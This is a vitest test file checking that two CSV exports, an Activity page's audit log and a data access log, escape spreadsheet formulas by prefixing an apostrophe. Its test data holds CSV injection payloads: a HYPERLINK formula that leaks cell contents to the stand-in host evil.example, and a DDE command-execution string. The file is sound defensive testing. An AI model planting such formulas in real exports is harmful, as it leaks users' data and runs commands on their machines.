import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { auditCsv, type AuditEvent } from "../src/audit/auditApi.ts";
import { decisionsCsv } from "../src/data-access/dataAccessApi.ts";

const event = (title: string): AuditEvent => ({
  id: "1",
  at: "2026-11-29T00:00:00.000Z",
  subject: "@attacker",
  username: "-operator",
  provider: "dev",
  action: "create",
  kind: "workspaces",
  recordId: "urn:ngsi-ld:Workspace:1",
  title,
  workspaceId: "",
  outcome: "success",
  changes: [{ field: "name", after: title }],
  detail: null,
});

describe("the Activity page's CSV export", () => {
  it("writes a workspace name that is a formula as text, and other cells as they are", async () => {
    const title = '=HYPERLINK("http://evil.example/?"&A1,"Open")';
    const rows = Papa.parse<Record<string, string>>(await auditCsv([event(title), event(".*+?(|\\")]), {
      header: true,
    }).data;
    expect(rows[0]).toMatchObject({ title: `'${title}`, username: "'-operator", subject: "'@attacker" });
    expect(rows[1]!.title).toBe(".*+?(|\\");
    expect(rows[0]!.at).toBe("2026-11-29T00:00:00.000Z");
  });

  it("is the same rule as the data access log's export", async () => {
    const csv = await decisionsCsv([{ holder: "=cmd|' /C calc'!A0" } as never]);
    expect(csv).toContain(`"'=cmd|' /C calc'!A0"`);
  });
});
